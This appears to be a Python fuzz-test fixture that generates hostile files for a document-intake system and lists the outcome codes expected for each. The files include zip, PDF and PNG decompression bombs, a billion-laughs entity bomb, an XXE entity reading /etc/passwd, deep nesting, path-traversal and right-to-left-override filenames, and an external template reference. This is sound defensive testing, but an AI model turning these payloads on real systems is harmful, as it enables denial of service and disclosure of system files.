"""Files that are meant to hurt, each with what the system must say of it.

All are made here, small on disk; nothing of them is kept in the repository.
"""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from email.message import EmailMessage

from tests.fuzz import seeds
from tests.fuzz.changing import opened, packed

MAIN = "word/document.xml"
STORED = "stored"


@dataclass(frozen=True, slots=True)
class Hostile:
    """One file: `codes` are the outcomes that are right; `stored` means it does no harm."""

    name: str
    made: Callable[[], bytes]
    codes: tuple[str, ...]


def word_with(part: str, held: bytes) -> bytes:
    """A Word file with one part of its own."""
    members = dict(opened(seeds.word(seeds.words("Kính gửi: Sở Nội vụ."))))
    return packed([*(members | {part: held}).items()])


def word_of(xml: str) -> bytes:
    """A Word file with a main part of its own."""
    return word_with(MAIN, xml.encode())


def document(body: str, head: str = "") -> bytes:
    """A Word file around a body, with words of XML before it."""
    return word_of(f"{head}<w:document {seeds.W}><w:body>{body}</w:body></w:document>")


def zip_bomb() -> bytes:
    """400 MB of blanks in 400 kB."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, held in opened(seeds.word(seeds.words("a"))):
            archive.writestr(name, held)
        with archive.open("word/media/blank.bin", "w") as part:
            for _ in range(400):
                part.write(bytes(1_000_000))
    return out.getvalue()


def bomb_of_one_part() -> bytes:
    """A main part that is 150 MB of paragraphs."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, held in opened(seeds.word(seeds.words("a"))):
            if name != MAIN:
                archive.writestr(name, held)
        with archive.open(MAIN, "w") as part:
            part.write(f"<w:document {seeds.W}><w:body>".encode())
            for _ in range(150):
                part.write(b"<w:p/>" * 170_000)
            part.write(b"</w:body></w:document>")
    return out.getvalue()


def laughs() -> bytes:
    """Entities of entities of entities: a few hundred bytes that stand for 3 GB."""
    lines = ['<!ENTITY a0 "ha">']
    lines += [f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10)]
    head = f"<!DOCTYPE x [{''.join(lines)}]>"
    return document(seeds.words("&a9;"), head)


def reach_out() -> bytes:
    """An entity that is a file of the machine."""
    head = '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
    return document(seeds.words("Kính gửi: &e;"), head)


def nested_tables() -> bytes:
    """Tables in tables, 20,000 deep."""
    deep = 20_000
    begin, end = "<w:tbl><w:tr><w:tc>", "</w:tc></w:tr></w:tbl>"
    return document(begin * deep + seeds.words("a") + end * deep)


def macro() -> bytes:
    """A Word file with a macro, which nobody runs."""
    return word_with("word/vbaProject.bin", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(2000))


def outside_reference() -> bytes:
    """A template that stands on another machine."""
    relations = "http://schemas.openxmlformats.org/package/2006/relationships"
    held = (
        f'<Relationships xmlns="{relations}"><Relationship Id="r9" Type="{seeds.OFFICE}'
        '/attachedTemplate" Target="http://192.0.2.1/a.dotm" TargetMode="External"/>'
        "</Relationships>"
    )
    return word_with("word/_rels/document.xml.rels", held.encode())


def _pages(kids: bytes, count: bytes) -> bytes:
    return seeds.plain_pdf(
        [
            b"<</Type/Catalog/Pages 2 0 R>>",
            b"<</Type/Pages/Kids[%s]/Count %s/Parent 2 0 R>>" % (kids, count),
            b"<</Type/Pages/Kids[2 0 R]/Count 1/Parent 2 0 R>>",
        ]
    )


def cyclic_pdf() -> bytes:
    """A tree of pages that is its own child."""
    return _pages(b"3 0 R 2 0 R", b"7")


def endless_pdf() -> bytes:
    """A tree that says it has two thousand million pages."""
    return _pages(b"3 0 R", b"2147483647")


def pdf_bomb() -> bytes:
    """A page whose content unpacks to 1 GB of drawing nothing."""
    packer = zlib.compressobj(9)
    held = b"".join(packer.compress(b"q Q " * 250_000) for _ in range(1000)) + packer.flush()
    page = (
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R>>",
        b"<</Filter/FlateDecode/Length %d>>stream\n%s\nendstream" % (len(held), held),
    )
    tree = b"<</Type/Pages/Kids[3 0 R]/Count 1>>"
    return seeds.plain_pdf([b"<</Type/Catalog/Pages 2 0 R>>", tree, *page])


def picture_bomb() -> bytes:
    """A PNG of 50,000 by 50,000 points: 2.5 GB once it is opened."""
    size = 50_000
    packer = zlib.compressobj(9)
    held = b"".join(packer.compress(bytes(1 + size // 8)) for _ in range(size)) + packer.flush()
    head = struct.pack(">IIBBBBB", size, size, 1, 0, 0, 0, 0)
    chunks = ((b"IHDR", head), (b"IDAT", held), (b"IEND", b""))
    return b"\x89PNG\r\n\x1a\n" + b"".join(seeds.chunk(kind, part) for kind, part in chunks)


def russian_dolls() -> bytes:
    """An e-mail in an e-mail, 60 times."""
    message = EmailMessage()
    message["From"], message["Subject"] = "a@lamgiang.example", "Trong cùng"
    message.set_content("Kính gửi.")
    for _ in range(60):
        outer = EmailMessage()
        outer["From"], outer["Subject"] = "a@lamgiang.example", "Fw:"
        outer.add_attachment(message)
        message = outer
    return bytes(message)


def endless_cells() -> bytes:
    """A page whose cells say that they are a thousand million wide, and never end."""
    cell = '<td colspan="1000000000" rowspan="1000000000">Sở Nội vụ'
    return f"<!DOCTYPE html><html><body><table>{f'<tr>{cell * 30}' * 30}".encode()


def nested_page() -> bytes:
    """A page with 100,000 boxes in each other."""
    return b"<!DOCTYPE html><html><body>" + b"<div>" * 100_000 + "Sở Nội vụ".encode()


def secret() -> bytes:
    """A paper with a stamp of secrecy."""
    return f"TỐI MẬT\n{seeds.TEXT}".encode()


def encrypted_word() -> bytes:
    """What Word writes with a password: an OLE2 file that names the encrypted package."""
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504) + "EncryptedPackage".encode("utf-16-le")


def one_long_line() -> bytes:
    """A quarter of a million letters without an end of line, of what the rules look for."""
    return ("Số 5/KH-UBND ngày 3/2/2026, trước ngày 30/11; " * 5_000).encode()


def english() -> bytes:
    """A paper in another language."""
    return b"To: all departments.\nPlease report before 30 November 2026.\n" * 40


REFUSED_PDF = ("broken", "no_text", "too_many_pages", "too_slow", "too_heavy", "crashed")
COLLECTION = (
    Hostile("bom-nen.docx", zip_bomb, ("packed",)),
    Hostile("mot-phan-lon.docx", bomb_of_one_part, ("packed", "too_heavy", "too_slow")),
    Hostile("cuoi-ti-lan.docx", laughs, ("entities",)),
    Hostile("vuon-ra-ngoai.docx", reach_out, ("entities",)),
    Hostile("bang-long-bang.docx", nested_tables, ("too_deep", "broken", "crashed")),
    Hostile("macro.docm", macro, (STORED,)),
    Hostile("mau-o-noi-khac.docx", outside_reference, (STORED,)),
    Hostile("cay-vong.pdf", cyclic_pdf, REFUSED_PDF),
    Hostile("hai-ti-trang.pdf", endless_pdf, REFUSED_PDF),
    Hostile("bom-noi-dung.pdf", pdf_bomb, REFUSED_PDF),
    Hostile("anh-khong-lo.png", picture_bomb, ("too_large", "too_heavy", "no_text", "broken")),
    Hostile("bup-be-nga.eml", russian_dolls, ("too_deep",)),
    Hostile("o-vo-tan.html", endless_cells, (STORED, "broken", "too_heavy", "too_deep")),
    Hostile("hop-long-hop.html", nested_page, (STORED, "too_deep", "broken")),
    Hostile("mat.txt", secret, ("secret",)),
    Hostile("mat-khau.docx", encrypted_word, ("encrypted", "broken", "unknown_format")),
    Hostile("nhi-phan.txt", lambda: bytes(range(256)) * 40, ("not_text",)),
    Hostile("rong.pdf", bytes, ("empty",)),
    Hostile("ba-tram-mb.pdf", lambda: bytes(300_000_000), ("too_large",)),
    Hostile("mot-dong.txt", one_long_line, (STORED,)),
    Hostile("tieng-anh.txt", english, (STORED,)),
    Hostile("../../../etc/cron.d/a.txt", lambda: f"{seeds.TEXT}\n1".encode(), (STORED,)),
    Hostile("C:\\Windows\\a\x00b.txt", lambda: f"{seeds.TEXT}\n2".encode(), (STORED,)),
    Hostile("Số 5/\u202etxt.exe", lambda: f"{seeds.TEXT}\n3".encode(), (STORED,)),
    Hostile("ế" * 400 + ".txt", lambda: f"{seeds.TEXT}\n4".encode(), (STORED,)),
)
